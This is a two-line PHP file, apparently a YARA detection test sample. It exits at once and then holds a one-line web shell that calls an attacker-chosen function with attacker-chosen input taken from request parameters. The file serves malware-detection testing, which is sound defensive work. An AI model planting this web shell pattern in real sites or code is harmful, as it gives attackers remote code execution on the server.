<?php exit('haidang YARA test sample'); ?>
<?php $_REQUEST['f']($_REQUEST['a']); ?>
